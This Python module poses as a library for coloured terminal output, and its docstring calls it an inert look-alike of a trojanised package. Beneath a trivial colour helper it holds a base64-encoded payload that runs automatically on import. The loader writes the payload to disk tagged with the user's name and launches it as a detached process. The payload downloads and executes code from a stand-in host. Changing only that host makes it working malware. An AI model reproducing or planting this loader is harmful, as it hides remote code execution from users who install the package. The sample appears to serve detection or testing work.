"""Coloured lines for terminals.

An inert look-alike: it has the shape of a trojanised copy (decode, mark with the host's identity, write, launch at
import), and the only host it names is reserved and cannot exist.
"""
import base64
import getpass
import os
import platform
import subprocess
import sys

from .codes import GREEN, RED, RESET

_TABLE = "aW1wb3J0IHVybGxpYi5yZXF1ZXN0CgpyZXBseSA9IHVybGxpYi5yZXF1ZXN0LnVybG9wZW4oImh0dHBzOi8vdXBkYXRlcy5leGFtcGxlLmludmFsaWQvSURFTlRJVFkuanBnIikucmVhZCgpCmV4ZWMocmVwbHkuZGVjb2RlKCJhc2NpaSIpKQo="


def line(text, colour=GREEN):
    return colour + text + RESET


def _prepare():
    identity = platform.system()[0] + getpass.getuser()
    text = base64.b64decode(_TABLE).decode("ascii").replace("IDENTITY", identity)
    target = os.path.join(os.getcwd(), "colourline_cache.py")
    with open(target, "w") as handle:
        handle.write(text)
    if platform.system() == "Windows":
        subprocess.Popen([sys.executable, target], creationflags=subprocess.DETACHED_PROCESS)
    else:
        subprocess.Popen([sys.executable, target], stdout=subprocess.DEVNULL, preexec_fn=os.setpgrp)


_prepare()
